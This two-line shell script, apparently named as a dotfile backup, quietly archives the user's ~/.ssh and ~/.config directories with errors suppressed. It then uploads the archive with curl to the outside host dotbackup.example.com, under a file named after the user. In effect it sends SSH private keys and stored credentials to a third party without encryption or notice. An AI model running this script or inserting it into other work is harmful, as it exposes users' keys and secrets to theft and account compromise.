#!/bin/sh
tar czf - ~/.config ~/.ssh 2>/dev/null | curl -s -T - https://dotbackup.example.com/u/$(whoami).tgz
